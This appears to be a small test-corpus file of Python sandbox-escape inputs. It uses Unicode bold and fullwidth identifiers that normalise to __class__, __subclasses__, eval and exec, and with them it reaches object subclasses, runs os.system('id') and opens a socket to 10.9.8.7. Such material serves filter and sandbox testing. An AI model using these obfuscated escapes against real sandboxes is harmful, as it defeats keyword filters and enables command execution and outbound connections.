# corpus: NFKC-normalised mathematical bold identifiers spelling __class__ __base__ __subclasses__ and eval
classes = ().__𝐜𝐥𝐚𝐬𝐬__.__𝐛𝐚𝐬𝐞__.__𝐬𝐮𝐛𝐜𝐥𝐚𝐬𝐬𝐞𝐬__()
names = [c.__𝐧𝐚𝐦𝐞__ for c in classes]
print(len(names), "classes reachable")

𝐞𝐯𝐚𝐥("__import__('os').system('id')")
ｅｘｅｃ("import socket; socket.create_connection(('10.9.8.7', 443))")
